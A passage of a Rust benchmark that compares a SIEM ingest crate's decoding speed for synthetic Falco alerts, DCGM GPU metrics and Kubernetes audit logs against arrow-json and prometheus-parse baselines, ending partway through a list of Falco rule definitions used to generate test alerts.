//! Decoder throughput on generated, realistic data, each next to a baseline measured in the same
//! process on the same bytes into the same schema.
//!
//! `cargo bench -p gpusiem-ingest --bench decode` runs criterion over every case, then measures
//! each case again (ours and the baseline alternating, the median of `DECODE_BENCH_ITERS` runs,
//! 5 by default) with [`Instant`] and with the thread's CPU time, and prints a table of events/s,
//! MB/s (10^6 bytes of input) and the ratio ours/baseline against the targets of issue 2.
//! Everything runs on one thread, so every figure is per core; rates and verdicts use CPU time,
//! which a busy machine does not inflate (wall-clock ratios are printed beside them). `DECODE_BENCH_SCALE=0.1` shrinks the data;
//! `DECODE_BENCH_CRITERION=0` skips criterion and prints only the table;
//! `DECODE_BENCH_CASES=falco,audit` measures only the cases named (all by default);
//! `DECODE_BENCH_DUMP=DIR` writes the generated inputs to `DIR`. `cargo test --benches`
//! (criterion's test mode) runs everything once on 1% of the data.
//!
//! # Data (seeded, deterministic)
//!
//! One simulated cluster of 1,250 nodes × 8 GPUs, with training pods that own a whole node,
//! serving, notebook and batch pods that own one GPU, and idle GPUs; the three streams describe
//! that cluster.
//!
//! - **Falco**: 200,000 alerts of about 1 KB as Falco's `json_output` writes them (real rule
//!   names, priorities, tags, an `output` with the `container_*`/`k8s_*` suffix), each with
//!   20 `output_fields` (`container.*`, `k8s.*`, `proc.*`, `user.*`, `fd.name`, `evt.type`,
//!   `evt.res`, `evt.time` as an integer of nanoseconds); half carry falcosidekick's `uuid`.
//! - **DCGM**: 1,250 dcgm-exporter scrapes of 8 GPUs × the 25 default counters, concatenated:
//!   `# HELP`/`# TYPE` per family, labels `gpu`, `UUID`, `pci_bus_id`, `device`, `modelName`,
//!   `Hostname`, `DCGM_FI_DRIVER_VERSION`, then `container`, `namespace`, `pod` (idle GPUs have
//!   them empty or, as newer exporters do, not at all). 250,000 samples.
//! - **Audit**: 50,000 JSON lines: Metadata-level get/update/list/watch of leases and
//!   configmaps, RequestResponse pod creates (by a ReplicaSet with `generateName`, or named by a
//!   StatefulSet) whose `requestObject`/`responseObject` are GPU pods of a few KB, and pod
//!   bindings.
//!
//! # Baselines, and what "the same schema" means for them
//!
//! - **Falco and audit: arrow-json's `Decoder`** (`ReaderBuilder::new(schema).build_decoder()`)
//!   with an Arrow schema that mirrors the JSON and holds what our decoder keeps. Falco: `time`
//!   as `Timestamp(ns, UTC)`, `rule`, `priority`, `source`, `hostname`, `output`, `uuid`, `tags`
//!   as a list, and `output_fields` as a struct. arrow-json cannot keep a JSON object as text, so
//!   the closest equivalent of our verbatim `output_fields` column is a struct of *every* output
//!   field, typed (strings, `Int64`, `Boolean`): it holds the same information. A second,
//!   lighter baseline gives the struct only the 15 fields we promote to columns (arrow-json skips
//!   the rest); the targets are checked against the faster of the two. Audit: the top-level
//!   `Event` fields, `requestReceivedTimestamp`/`stageTimestamp` as timestamps, `user`,
//!   `impersonatedUser`, `objectRef` and `responseStatus` as structs, `sourceIPs` as a list,
//!   `annotations` as a `Map<Utf8, Utf8>`. `requestObject`/`responseObject` (kept verbatim by
//!   us) become structs of what our decoder reads from them (`kind`, `apiVersion`,
//!   `metadata.{name, generateName, namespace, uid, labels}`, `target.{kind, name}`):
//!   arrow-json still tokenises the whole object, and only saves copying its text, so this
//!   leans in the baseline's favour. Both sides produce batches of [`BATCH_ROWS`] rows: ours
//!   decodes the input cut at line boundaries into pieces of that many records.
//! - **DCGM: the `prometheus-parse` crate**, `Scrape::parse` over the same text, line by line as
//!   its API takes it (`io::Result<String>` per line). Its output is its own structure (a
//!   `HashMap` of labels per sample); we count the samples. A second baseline also builds the
//!   `gpu_metrics` Arrow columns from its output (entity columns, typed GPU columns, the
//!   remaining labels as JSON), for a like-for-like comparison. The target is checked against
//!   the parse alone. The whole exposition is one call on both sides; a last row decodes it
//!   scrape by scrape (1,250 calls of 200 samples), as the scrape source does.

use std::collections::BTreeMap;
use std::hint::black_box;
use std::sync::Arc;
use std::time::{Duration, Instant};

use arrow::array::{
    ArrayRef, Float64Builder, RecordBatch, StringBuilder, TimestampNanosecondBuilder, UInt32Builder,
};
use arrow::datatypes::{DataType, Field, Fields, Schema, SchemaRef, TimeUnit};
use criterion::{Criterion, Throughput};
use gpusiem_ingest::decode::{self, DecodeContext};
use gpusiem_ingest::schema::gpu_metrics;
use gpusiem_ingest::time::format_rfc3339_nanos;

/// Records per batch, on both sides of the JSON comparisons.
pub const BATCH_ROWS: usize = 1024;

const FALCO_ALERTS: usize = 200_000;
const DCGM_NODES: usize = 1_250;
const GPUS_PER_NODE: usize = 8;
const AUDIT_EVENTS: usize = 50_000;
/// 2025-03-01T00:00:00Z.
const EPOCH_NS: i64 = 1_740_787_200_000_000_000;

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let has = |flag: &str| args.iter().any(|a| a == flag);
    if has("--list") {
        return;
    }
    // Criterion's rule: a measurement only under `cargo bench` without `--test`.
    let measuring = has("--bench") && !has("--test");
    let scale = if measuring {
        env_f64("DECODE_BENCH_SCALE", 1.0)
    } else {
        0.01
    };
    let iters = if measuring {
        env_f64("DECODE_BENCH_ITERS", 5.0).max(1.0) as usize
    } else {
        1
    };
    let scaled = |n: usize| ((n as f64 * scale).round() as usize).max(1);

    let t = Instant::now();
    let cluster = Cluster::generate(0x5eed_6a05, scaled(DCGM_NODES));
    let data = Data {
        falco: falco_alerts(&cluster, 0xfa1c0, scaled(FALCO_ALERTS)),
        dcgm: dcgm_scrapes(&cluster, 0xdc6e),
        audit: audit_events(&cluster, 0xa0d17, scaled(AUDIT_EVENTS)),
    };
    println!(
        "generated in {:.1}s: falco {} alerts / {:.1} MB, dcgm {} samples / {:.1} MB, audit {} events / {:.1} MB",
        t.elapsed().as_secs_f64(),
        data.falco.records,
        mb(data.falco.bytes.len()),
        data.dcgm.records,
        mb(data.dcgm.bytes.len()),
        data.audit.records,
        mb(data.audit.bytes.len()),
    );
    if let Ok(dir) = std::env::var("DECODE_BENCH_DUMP") {
        for (name, input) in [
            ("falco.jsonl", &data.falco),
            ("dcgm.prom", &data.dcgm),
            ("audit.jsonl", &data.audit),
        ] {
            let path = std::path::Path::new(&dir).join(name);
            std::fs::write(&path, &input.bytes).expect("write the generated data");
        }
    }
    let only = std::env::var("DECODE_BENCH_CASES").ok();
    let cases: Vec<Case<'_>> = cases(&data)
        .into_iter()
        .filter(|case| {
            only.as_deref()
                .is_none_or(|only| only.split(',').any(|name| name.trim() == case.name))
        })
        .collect();
    for case in &cases {
        let ours = (case.ours)();
        let base = (case.baseline)();
        assert_eq!(
            (ours, base),
            (case.records, case.records),
            "{}: every record decodes on both sides",
            case.name
        );
    }

    if measuring && std::env::var("DECODE_BENCH_CRITERION").as_deref() != Ok("0") {
        let mut c = Criterion::default()
            .sample_size(10)
            .warm_up_time(Duration::from_secs(1))
            .measurement_time(Duration::from_secs(5))
            .without_plots()
            .configure_from_args();
        for case in &cases {
            let mut g = c.benchmark_group(case.name);
            g.throughput(Throughput::Bytes(case.bytes as u64));
            g.bench_function("gpusiem", |b| b.iter(|| black_box((case.ours)())));
            g.bench_function(case.baseline_name, |b| {
                b.iter(|| black_box((case.baseline)()))
            });
            g.finish();
        }
        c.final_summary();
    }

    summary(&cases, iters);
}

fn env_f64(name: &str, default: f64) -> f64 {
    std::env::var(name)
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

fn mb(bytes: usize) -> f64 {
    bytes as f64 / 1e6
}

// ---------------------------------------------------------------------------------------------
// Cases and the summary table
// ---------------------------------------------------------------------------------------------

struct Data {
    falco: Input,
    dcgm: Input,
    audit: Input,
}

/// Generated input: the bytes, how many records they hold, and where each chunk of
/// [`BATCH_ROWS`] records (JSON) or each scrape (DCGM) starts.
pub struct Input {
    /// The input.
    pub bytes: Vec<u8>,
    /// Records in it.
    pub records: usize,
    /// Byte ranges of its chunks.
    pub chunks: Vec<std::ops::Range<usize>>,
}

/// One comparison: two closures that decode the same bytes and return the rows they produced.
struct Case<'a> {
    name: &'static str,
    baseline_name: &'static str,
    stream: &'static str,
    bytes: usize,
    records: usize,
    ours: Box<dyn Fn() -> usize + 'a>,
    baseline: Box<dyn Fn() -> usize + 'a>,
    /// `Some(min)` when the ratio ours/baseline is a target of issue 2.
    target: Option<f64>,
}

/// Our decoder over `input` cut into its chunks: one call, and one batch, per chunk.
fn chunked<'a>(
    stream: gpusiem_ingest::Stream,
    input: &'a Input,
    cx: DecodeContext,
) -> impl Fn() -> usize + 'a {
    move || {
        let mut rows = 0;
        for r in &input.chunks {
            let decoded = decode::decode(stream, &input.bytes[r.clone()], &cx).expect("decode");
            rows += decoded.batch.num_rows();
            black_box(decoded);
        }
        rows
    }
}

fn cases(d: &Data) -> Vec<Case<'_>> {
    let cx = DecodeContext::new(EPOCH_NS);
    let chunked = |stream, input| chunked(stream, input, cx.clone());
    let falco_full = falco_schema(true);
    let falco_promoted = falco_schema(false);
    let audit = audit_schema();
    let dcgm_text = std::str::from_utf8(&d.dcgm.bytes).expect("generated text is UTF-8");
    let dcgm_cx = DecodeContext::new(EPOCH_NS);
    let dcgm_cx2 = dcgm_cx.clone();
    vec![
        Case {
            name: "falco",
            baseline_name: "arrow-json (all output_fields)",
            stream: "falco",
            bytes: d.falco.bytes.len(),
            records: d.falco.records,
            ours: Box::new(chunked(gpusiem_ingest::Stream::FalcoEvents, &d.falco)),
            baseline: Box::new(move || arrow_json_rows(&falco_full, &d.falco.bytes)),
            target: Some(2.0),
        },
        Case {
            name: "falco-promoted",
            baseline_name: "arrow-json (promoted output_fields)",
            stream: "falco",
            bytes: d.falco.bytes.len(),
            records: d.falco.records,
            ours: Box::new(chunked(gpusiem_ingest::Stream::FalcoEvents, &d.falco)),
            baseline: Box::new(move || arrow_json_rows(&falco_promoted, &d.falco.bytes)),
            target: Some(2.0),
        },
        Case {
            name: "audit",
            baseline_name: "arrow-json",
            stream: "audit",
            bytes: d.audit.bytes.len(),
            records: d.audit.records,
            ours: Box::new(chunked(gpusiem_ingest::Stream::K8sAudit, &d.audit)),
            baseline: Box::new(move || arrow_json_rows(&audit, &d.audit.bytes)),
            target: Some(2.0),
        },
        Case {
            name: "dcgm",
            baseline_name: "prometheus-parse",
            stream: "dcgm",
            bytes: d.dcgm.bytes.len(),
            records: d.dcgm.records,
            ours: Box::new(move || {
                let decoded = decode::prometheus::decode(&d.dcgm.bytes, &dcgm_cx).expect("decode");
                decoded.batch.num_rows()
            }),
            baseline: Box::new(move || prometheus_parse_samples(dcgm_text)),
            target: Some(15.0),
        },
        Case {
            name: "dcgm-arrow",
            baseline_name: "prometheus-parse + Arrow",
            stream: "dcgm",
            bytes: d.dcgm.bytes.len(),
            records: d.dcgm.records,
            ours: Box::new(move || {
                let decoded = decode::prometheus::decode(&d.dcgm.bytes, &dcgm_cx2).expect("decode");
                decoded.batch.num_rows()
            }),
            baseline: Box::new(move || prometheus_parse_arrow_rows(dcgm_text)),
            target: None,
        },
        Case {
            name: "dcgm-per-scrape",
            baseline_name: "prometheus-parse",
            stream: "dcgm",
            bytes: d.dcgm.bytes.len(),
            records: d.dcgm.records,
            ours: Box::new(chunked(gpusiem_ingest::Stream::GpuMetrics, &d.dcgm)),
            baseline: Box::new(move || {
                d.dcgm
                    .chunks
                    .iter()
                    .map(|r| prometheus_parse_samples(&dcgm_text[r.clone()]))
                    .sum()
            }),
            target: None,
        },
    ]
}

/// Runs each side `iters` times, alternating, then prints the table: medians of wall-clock time
/// (`Instant`) and of the time the thread was on a CPU (`/proc/thread-self/schedstat`, Linux).
/// Rates and the verdicts use CPU time when it can be read: it is the per-core figure, and on a
/// shared machine wall-clock time also counts the time the thread waited for a CPU.
fn summary(cases: &[Case<'_>], iters: usize) {
    let clock = if thread_cpu_ns().is_some() {
        "CPU time"
    } else {
        "wall-clock time (no per-thread CPU time here)"
    };
    println!();
    println!(
        "decode throughput, one thread, median of {iters} run(s) per side, alternating; rates per core from {clock}; MB = 10^6 bytes of input"
    );
    println!(
        "{:<16} {:<36} {:>8} {:>7} {:>9} {:>9} {:>17} {:>8} {:>10} {:>10}",
        "case",
        "decoder",
        "records",
        "MB",
        "wall ms",
        "cpu ms",
        "rate/core",
        "MB/s",
        "ratio cpu",
        "ratio wall"
    );
    let mut verdicts = Vec::new();
    for case in cases {
        let (mut ours, mut base) = (Vec::new(), Vec::new());
        for _ in 0..iters {
            ours.push(time(&case.ours));
            base.push(time(&case.baseline));
        }
        let (o, b) = (Timing::median(&mut ours), Timing::median(&mut base));
        let ratio = (b.cpu / o.cpu, b.wall / o.wall);
        let unit = if case.stream == "dcgm" {
            "samples/s"
        } else {
            "events/s"
        };
        let line = |who: &str, t: Timing, ratio: Option<(f64, f64)>| {
            println!(
                "{:<16} {:<36} {:>8} {:>7.1} {:>9.1} {:>9.1} {:>17} {:>8.1} {:>10} {:>10}",
                case.name,
                who,
                case.records,
                mb(case.bytes),
                t.wall * 1e3,
                t.cpu * 1e3,
                format!("{} {unit}", si(case.records as f64 / t.cpu)),
                mb(case.bytes) / t.cpu,
                ratio.map_or(String::new(), |r| format!("{:.2}x", r.0)),
                ratio.map_or(String::new(), |r| format!("{:.2}x", r.1)),
            );
        };
        line("gpusiem", o, Some(ratio));
        line(case.baseline_name, b, None);
        if let Some(target) = case.target {
            verdicts.push((case, ratio, target, case.records as f64 / o.cpu));
        }
    }
    println!();
    for (case, (cpu, wall), target, rate) in verdicts {
        println!(
            "target {}: gpusiem / {} = {cpu:.2}x on CPU time ({wall:.2}x wall-clock), target >= {target}x: {}",
            case.name,
            case.baseline_name,
            if cpu >= target { "met" } else { "NOT met" }
        );
        if case.stream == "dcgm" {
            println!(
                "target {}: {} samples/s per core, target >= 3M: {}",
                case.name,
                si(rate),
                if rate >= 3e6 { "met" } else { "NOT met" }
            );
        }
    }
}

/// Seconds one run took.
#[derive(Clone, Copy)]
struct Timing {
    wall: f64,
    cpu: f64,
}

impl Timing {
    fn median(runs: &mut [Timing]) -> Timing {
        let mid = runs.len() / 2;
        runs.sort_by(|a, b| a.wall.total_cmp(&b.wall));
        let wall = runs[mid].wall;
        runs.sort_by(|a, b| a.cpu.total_cmp(&b.cpu));
        Timing {
            wall,
            cpu: runs[mid].cpu,
        }
    }
}

/// Nanoseconds this thread has run on a CPU (Linux), user and system time together.
fn thread_cpu_ns() -> Option<u64> {
    std::fs::read_to_string("/proc/thread-self/schedstat")
        .ok()?
        .split_whitespace()
        .next()?
        .parse()
        .ok()
}

fn si(rate: f64) -> String {
    if rate >= 1e6 {
        format!("{:.2}M", rate / 1e6)
    } else {
        format!("{:.1}k", rate / 1e3)
    }
}

/// One run: `f` repeated until a quarter of a second has passed (the thread's CPU time is only
/// updated at scheduler ticks, every few milliseconds), the time per call.
fn time(f: &dyn Fn() -> usize) -> Timing {
    let cpu = thread_cpu_ns();
    let t = Instant::now();
    let mut calls = 0u32;
    while calls == 0 || t.elapsed() < Duration::from_millis(250) {
        black_box(f());
        calls += 1;
    }
    let wall = t.elapsed().as_secs_f64();
    let cpu = match (cpu, thread_cpu_ns()) {
        (Some(a), Some(b)) => (b - a) as f64 / 1e9,
        _ => wall,
    };
    let calls = f64::from(calls);
    Timing {
        wall: wall / calls,
        cpu: cpu / calls,
    }
}

// ---------------------------------------------------------------------------------------------
// Baselines
// ---------------------------------------------------------------------------------------------

/// Rows arrow-json decodes from `input` into `schema`.
pub fn arrow_json_rows(schema: &SchemaRef, input: &[u8]) -> usize {
    let mut decoder = arrow_json::ReaderBuilder::new(schema.clone())
        .with_batch_size(BATCH_ROWS)
        .build_decoder()
        .expect("a valid schema");
    let mut rows = 0;
    let mut offset = 0;
    loop {
        offset += decoder
            .decode(&input[offset..])
            .expect("arrow-json decodes the generated data");
        match decoder.flush().expect("arrow-json builds the batch") {
            Some(batch) => {
                rows += batch.num_rows();
                black_box(batch);
            }
            None if offset >= input.len() => return rows,
            None => {}
        }
    }
}

fn utf8(name: &str) -> Field {
    Field::new(name, DataType::Utf8, true)
}

fn int64(name: &str) -> Field {
    Field::new(name, DataType::Int64, true)
}

fn list(name: &str) -> Field {
    Field::new_list(name, Field::new_list_field(DataType::Utf8, true), true)
}

fn timestamp(name: &str) -> Field {
    Field::new(
        name,
        // "+00:00": arrow without chrono-tz knows offsets only; the same instant as "UTC".
        DataType::Timestamp(TimeUnit::Nanosecond, Some("+00:00".into())),
        true,
    )
}

fn strukt(name: &str, fields: Vec<Field>) -> Field {
    Field::new(name, DataType::Struct(Fields::from(fields)), true)
}

fn string_map(name: &str) -> Field {
    Field::new_map(
        name,
        "entries",
        Field::new("keys", DataType::Utf8, false),
        Field::new("values", DataType::Utf8, true),
        false,
        true,
    )
}

/// Falco alerts as arrow-json sees them; `all_fields`: every output field, or only the promoted.
pub fn falco_schema(all_fields: bool) -> SchemaRef {
    let mut output_fields = vec![
        utf8("container.id"),
        utf8("container.name"),
        utf8("container.image.repository"),
        utf8("container.image.tag"),
        int64("evt.time"),
        utf8("evt.type"),
        utf8("fd.name"),
        utf8("k8s.ns.name"),
        utf8("k8s.pod.name"),
        utf8("proc.cmdline"),
        utf8("proc.exepath"),
        utf8("proc.name"),
        utf8("proc.pname"),
        utf8("user.name"),
        int64("user.uid"),
    ];
    if all_fields {
        output_fields.extend([
            Field::new("container.privileged", DataType::Boolean, true),
            utf8("evt.res"),
            utf8("proc.aname[2]"),
            int64("proc.pid"),
            int64("proc.tty"),
            int64("user.loginuid"),
        ]);
    }
    Arc::new(Schema::new(vec![
        utf8("hostname"),
        utf8("output"),
        utf8("priority"),
        utf8("rule"),
        utf8("source"),
        list("tags"),
        timestamp("time"),
        utf8("uuid"),
        strukt("output_fields", output_fields),
    ]))
}

/// Audit events as arrow-json sees them.
pub fn audit_schema() -> SchemaRef {
    let object = |name: &str| {
        strukt(
            name,
            vec![
                utf8("kind"),
                utf8("apiVersion"),
                strukt(
                    "metadata",
                    vec![
                        utf8("name"),
                        utf8("generateName"),
                        utf8("namespace"),
                        utf8("uid"),
                        string_map("labels"),
                    ],
                ),
                strukt("target", vec![utf8("kind"), utf8("name")]),
            ],
        )
    };
    Arc::new(Schema::new(vec![
        utf8("kind"),
        utf8("apiVersion"),
        utf8("level"),
        utf8("auditID"),
        utf8("stage"),
        utf8("requestURI"),
        utf8("verb"),
        strukt("user", vec![utf8("username"), utf8("uid"), list("groups")]),
        strukt("impersonatedUser", vec![utf8("username"), list("groups")]),
        list("sourceIPs"),
        utf8("userAgent"),
        strukt(
            "objectRef",
            vec![
                utf8("resource"),
                utf8("namespace"),
                utf8("name"),
                utf8("uid"),
                utf8("apiGroup"),
                utf8("apiVersion"),
                utf8("resourceVersion"),
                utf8("subresource"),
            ],
        ),
        strukt(
            "responseStatus",
            vec![
                Field::new("code", DataType::Int32, true),
                utf8("status"),
                utf8("reason"),
                utf8("message"),
            ],
        ),
        object("requestObject"),
        object("responseObject"),
        timestamp("requestReceivedTimestamp"),
        timestamp("stageTimestamp"),
        string_map("annotations"),
    ]))
}

fn lines(text: &str) -> impl Iterator<Item = std::io::Result<String>> + '_ {
    text.lines().map(|l| Ok(l.to_owned()))
}

/// Samples prometheus-parse reads from `text`.
pub fn prometheus_parse_samples(text: &str) -> usize {
    let scrape = prometheus_parse::Scrape::parse(lines(text)).expect("no I/O error");
    let n = scrape.samples.len();
    black_box(scrape);
    n
}

/// prometheus-parse, then the `gpu_metrics` columns built from its samples.
fn prometheus_parse_arrow_rows(text: &str) -> usize {
    let scrape = prometheus_parse::Scrape::parse(lines(text)).expect("no I/O error");
    let n = scrape.samples.len();
    let s = || StringBuilder::with_capacity(n, n * 16);
    let mut ts = TimestampNanosecondBuilder::with_capacity(n).with_timezone("UTC");
    let (mut cluster, mut node, mut namespace, mut pod, mut pod_uid, mut container, mut uuid) =
        (s(), s(), s(), s(), s(), s(), s());
    let (mut metric, mut device, mut pci, mut model, mut profile, mut vgpu, mut labels) =
        (s(), s(), s(), s(), s(), s(), s());
    let mut value = Float64Builder::with_capacity(n);
    let (mut gpu, mut gi_id) = (
        UInt32Builder::with_capacity(n),
        UInt32Builder::with_capacity(n),
    );
    fn non_empty(v: Option<&str>) -> Option<&str> {
        v.filter(|s| !s.is_empty())
    }
    for sample in &scrape.samples {
        let l = &sample.labels;
        ts.append_value(EPOCH_NS);
        cluster.append_null();
        node.append_option(non_empty(l.get("Hostname")));
        namespace.append_option(non_empty(l.get("namespace")));
        pod.append_option(non_empty(l.get("pod")));
        pod_uid.append_null();
        container.append_option(non_empty(l.get("container")));
        uuid.append_option(non_empty(l.get("UUID")));
        metric.append_value(&sample.metric);
        value.append_option(match sample.value {
            prometheus_parse::Value::Counter(v)
            | prometheus_parse::Value::Gauge(v)
            | prometheus_parse::Value::Untyped(v) => Some(v),
            _ => None,
        });
        gpu.append_option(l.get("gpu").and_then(|g| g.parse().ok()));
        device.append_option(non_empty(l.get("device")));
        pci.append_option(non_empty(l.get("pci_bus_id")));
        model.append_option(non_empty(l.get("modelName")));
        profile.append_option(non_empty(l.get("GPU_I_PROFILE")));
        gi_id.append_option(l.get("GPU_I_ID").and_then(|g| g.parse().ok()));
        vgpu.append_option(non_empty(l.get("vgpu")));
        let rest: BTreeMap<&str, &str> = l
            .iter()
            .filter(|(k, _)| {
                !matches!(
                    k.as_str(),
                    "Hostname"
                        | "namespace"
                        | "pod"
                        | "container"
                        | "UUID"
                        | "gpu"
                        | "device"
                        | "pci_bus_id"
                        | "modelName"
                        | "GPU_I_PROFILE"
                        | "GPU_I_ID"
                        | "vgpu"
                )
            })
            .map(|(k, v)| (k.as_str(), v.as_str()))
            .collect();
        if rest.is_empty() {
            labels.append_null();
        } else {
            labels.append_value(serde_json::to_string(&rest).expect("strings serialize"));
        }
    }
    let columns: Vec<ArrayRef> = vec![
        Arc::new(ts.finish()),
        Arc::new(cluster.finish()),
        Arc::new(node.finish()),
        Arc::new(namespace.finish()),
        Arc::new(pod.finish()),
        Arc::new(pod_uid.finish()),
        Arc::new(container.finish()),
        Arc::new(uuid.finish()),
        Arc::new(metric.finish()),
        Arc::new(value.finish()),
        Arc::new(gpu.finish()),
        Arc::new(device.finish()),
        Arc::new(pci.finish()),
        Arc::new(model.finish()),
        Arc::new(profile.finish()),
        Arc::new(gi_id.finish()),
        Arc::new(vgpu.finish()),
        Arc::new(labels.finish()),
    ];
    let batch = RecordBatch::try_new(gpu_metrics::schema(), columns).expect("gpu_metrics batch");
    let rows = batch.num_rows();
    black_box(batch);
    rows
}

// ---------------------------------------------------------------------------------------------
// Data generation
// ---------------------------------------------------------------------------------------------

/// SplitMix64: small, seeded, good enough for test data.
pub struct Rng(u64);

impl Rng {
    /// A generator from a seed.
    pub fn new(seed: u64) -> Self {
        Rng(seed)
    }

    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }

    fn chance(&mut self, p: f64) -> bool {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64 <= p
    }

    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }

    fn hex(&mut self, n: usize) -> String {
        (0..n)
            .map(|_| char::from(b"0123456789abcdef"[self.below(16) as usize]))
            .collect()
    }

    fn alnum(&mut self, n: usize) -> String {
        const A: &[u8] = b"bcdfghjklmnpqrstvwxz2456789";
        (0..n)
            .map(|_| char::from(A[self.below(A.len() as u64) as usize]))
            .collect()
    }

    fn uuid(&mut self) -> String {
        format!(
            "{}-{}-4{}-{}{}-{}",
            self.hex(8),
            self.hex(4),
            self.hex(3),
            self.pick(&['8', '9', 'a', 'b']),
            self.hex(3),
            self.hex(12)
        )
    }
}

/// A JSON string literal.
fn q(s: &str) -> String {
    serde_json::to_string(s).expect("strings serialize")
}

#[derive(Clone, Copy, PartialEq)]
enum Role {
    Training,
    Serving,
    Notebook,
    Batch,
    Web,
}

/// A pod of the simulated cluster.
pub struct Pod {
    namespace: String,
    name: String,
    uid: String,
    container: String,
    repo: &'static str,
    tag: &'static str,
    container_id: String,
    node: usize,
    gpus: Vec<usize>,
    role: Role,
    owner: Option<String>,
    owner_uid: String,
}

struct Node {
    name: String,
    model: &'static str,
    ip: String,
    gpus: Vec<Gpu>,
}

struct Gpu {
    uuid: String,
    pci: String,
    /// Index into `Cluster::pods`; `None` for an idle GPU.
    pod: Option<usize>,
    /// Idle GPUs: `container=""`… (`true`) or no pod labels at all.
    empty_labels: bool,
}

/// The simulated cluster all three streams describe.
pub struct Cluster {
    nodes: Vec<Node>,
    pods: Vec<Pod>,
}

const MODELS: [&str; 3] = [
    "NVIDIA H100 80GB HBM3",
    "NVIDIA A100-SXM4-80GB",
    "NVIDIA L40S",
];
const USERS: [&str; 8] = [
    "alice", "bob", "chen", "dmitri", "esra", "farid", "gwen", "hiro",
];
const MODELS_SERVED: [&str; 5] = [
    "llama3-8b",
    "llama3-70b",
    "mistral-7b",
    "qwen2-72b",
    "whisper-large",
];

impl Cluster {
    /// `nodes` nodes of 8 GPUs, with their pods.
    pub fn generate(seed: u64, nodes: usize) -> Cluster {
        let mut r = Rng::new(seed);
        let mut c = Cluster {
            nodes: Vec::with_capacity(nodes),
            pods: Vec::new(),
        };
        for n in 0..nodes {
            let model = *r.pick(&MODELS);
            let mut node = Node {
                name: format!("gpu-{}-{}", ["a", "b", "c", "d"][n % 4], 1000 + n),
                model,
                ip: format!("10.{}.{}.{}", 20 + n / 65_000, (n / 250) % 256, n % 250 + 2),
                gpus: Vec::with_capacity(GPUS_PER_NODE),
            };
            for g in 0..GPUS_PER_NODE {
                node.gpus.push(Gpu {
                    uuid: format!(
                        "GPU-{}-{}-{}-{}-{}",
                        r.hex(8),
                        r.hex(4),
                        r.hex(4),
                        r.hex(4),
                        r.hex(12)
                    ),
                    pci: format!(
                        "00000000:{:02X}:00.0",
                        [0x18, 0x2a, 0x3a, 0x5d, 0x9a, 0xab, 0xba, 0xdb][g]
                    ),
                    pod: None,
                    empty_labels: r.chance(0.5),
                });
            }
            if r.chance(0.25) {
                let i = c.new_pod(&mut r, Role::Training, n, (0..GPUS_PER_NODE).collect());
                for gpu in &mut node.gpus {
                    gpu.pod = Some(i);
                }
            } else {
                for g in 0..GPUS_PER_NODE {
                    if r.chance(0.6) {
                        let role =
                            *r.pick(&[Role::Serving, Role::Serving, Role::Notebook, Role::Batch]);
                        node.gpus[g].pod = Some(c.new_pod(&mut r, role, n, vec![g]));
                    }
                }
            }
            // A web backend or two per node: pods without GPUs that Falco and audit still see.
            for _ in 0..r.range(1, 2) {
                c.new_pod(&mut r, Role::Web, n, Vec::new());
            }
            c.nodes.push(node);
        }
        c
    }

    fn new_pod(&mut self, r: &mut Rng, role: Role, node: usize, gpus: Vec<usize>) -> usize {
        let (namespace, base, container, repo, tag, owner) = match role {
            Role::Training => {
                let job = format!("train-{}", r.pick(&MODELS_SERVED));
                let name = format!("{job}-worker-{}", r.below(64));
                (
                    "research".to_string(),
                    name,
                    "pytorch",
                    "nvcr.io/nvidia/pytorch",
                    "24.05-py3",
                    Some(job),
                )
            }
            Role::Serving => {
                let m = r.pick(&MODELS_SERVED);
                let (ctr, repo, tag) = if r.chance(0.5) {
                    ("vllm", "vllm/vllm-openai", "v0.6.3")
                } else {
                    ("triton", "nvcr.io/nvidia/tritonserver", "24.08-py3")
                };
                let rs = format!("{ctr}-{m}-{}", r.hex(10));
                let name = format!("{rs}-{}", r.alnum(5));
                ("ml-serving".to_string(), name, ctr, repo, tag, Some(rs))
            }
            Role::Notebook => {
                let u = r.pick(&USERS);
                let name = format!("jupyter-{u}-{}", r.below(4));
                (
                    format!("nb-{u}"),
                    name,
                    "notebook",
                    "quay.io/jupyter/pytorch-notebook",
                    "cuda12-2024-10-07",
                    None,
                )
            }
            Role::Batch => {
                let job = format!("embed-batch-{}", r.range(28_000, 29_999));
                let name = format!("{job}-{}", r.alnum(5));
                (
                    "batch".to_string(),
                    name,
                    "embedder",
                    "ghcr.io/acme/embedder",
                    "1.14.2",
                    Some(job),
                )
            }
            Role::Web => {
                let app = *r.pick(&["storefront", "checkout", "search-api", "auth"]);
                let rs = format!("{app}-{}", r.hex(10));
                let name = format!("{rs}-{}", r.alnum(5));
                (
                    "shop".to_string(),
                    name,
                    app,
                    "ghcr.io/acme/storefront",
                    "2.31.0",
                    Some(rs),
                )
            }
        };
        self.pods.push(Pod {
            namespace,
            name: base,
            uid: r.uuid(),
            container: container.to_string(),
            repo,
            tag,
            container_id: r.hex(12),
            node,
            gpus,
            role,
            owner,
            owner_uid: r.uuid(),
        });
        self.pods.len() - 1
    }
}

// --- Falco -------------------------------------------------------------------------------------

struct Rule {
    name: &'static str,
    priority: &'static str,
    desc: &'static str,
    tags: &'static [&'static str],
    evt_type: &'static str,
    /// proc.name, exepath, cmdline, parent; fd.name (`None`: null).
    procs: &'static [(
        &'static str,
        &'static str,
        &'static str,
        &'static str,
        Option<&'static str>,
    )],
}

const RULES: &[Rule] = &[
    Rule {
        name: "Terminal shell in container",
        priority: "Notice",
        desc: "A shell was spawned in a container with an attached terminal",
        tags: &[
            "T1059",
            "container",
            "maturity_stable",
            "mitre_execution",
            "shell",
        ],
        evt_type: "execve",
        procs: &[
            ("bash", "/usr/bin/bash", "bash", "runc", None),
            ("sh", "/bin/sh", "sh -i", "containerd-shim", None),
        ],
    },
    Rule {
        name: "Read sensitive file untrusted",
        priority: "Warning",
